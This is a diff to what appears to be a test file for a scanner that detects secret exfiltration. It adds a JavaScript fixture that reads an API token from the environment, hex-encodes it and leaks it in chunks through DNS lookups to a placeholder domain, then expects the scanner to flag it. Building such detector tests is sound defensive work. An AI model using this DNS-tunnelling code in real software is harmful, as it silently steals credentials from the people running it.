@@ -401,6 +401,20 @@ test('flows: an image loaded from a URL that carries .env lines, labels of a key
     ].join('\n');
   has({ 'scripts/stats.py': py('syncKey') }, 'error sentinel/secret-exfiltration scripts/stats.py:3');
   quiet({ 'scripts/stats.py': py('deckName') }, 'secret-exfiltration');
+  // (an element of a list of labels, `${labels[i]}`, is no slice: the shape stands as before)
+  has(
+    {
+      'scripts/sync.mjs': [
+        'import { promises as dns } from "node:dns";',
+        'const token = process.env.API_TOKEN;',
+        'const enc = Buffer.from(token).toString("hex");',
+        'const labels = enc.match(/.{1,60}/g) ?? [];',
+        'for (let i = 0; i < labels.length; i++) dns.resolve4(`${labels[i]}.${i}.sync.example.invalid`).catch(() => {});',
+        '',
+      ].join('\n'),
+    },
+    'error sentinel/secret-exfiltration scripts/sync.mjs:5',
+  );
   const sh = [
     '#!/usr/bin/env bash',
     'tok="$GITHUB_TOKEN"',
